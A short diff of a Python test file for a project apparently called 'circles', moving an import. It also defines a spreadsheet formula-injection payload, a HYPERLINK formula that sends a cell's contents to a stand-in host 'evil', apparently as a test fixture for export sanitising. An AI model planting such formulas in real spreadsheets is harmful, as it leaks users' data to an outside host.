@@ -9,10 +9,10 @@ import xml.etree.ElementTree as ET
 import openpyxl
 import pandas as pd
 import pytest
-from circles.present.tables import write_table
 from click.testing import CliRunner
 
 from circles.cli import main
+from circles.present.tables import write_table
 from conftest import CHENGDU, need
 
 HYPERLINK = '=HYPERLINK("http://evil/?"&A2,"x")'
